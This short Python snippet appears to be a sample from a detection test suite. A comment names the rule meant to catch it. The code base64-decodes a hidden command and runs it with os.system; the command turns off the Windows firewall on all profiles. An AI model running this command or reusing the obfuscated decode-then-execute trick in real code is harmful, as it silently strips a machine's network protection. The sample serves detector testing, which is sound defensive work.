# evades: caught by execution/decode-then-spawn
import base64, os
os.system(base64.b64decode("bmV0c2ggYWR2ZmlyZXdhbGwgc2V0IGFsbHByb2ZpbGVzIHN0YXRlIG9mZg==").decode())
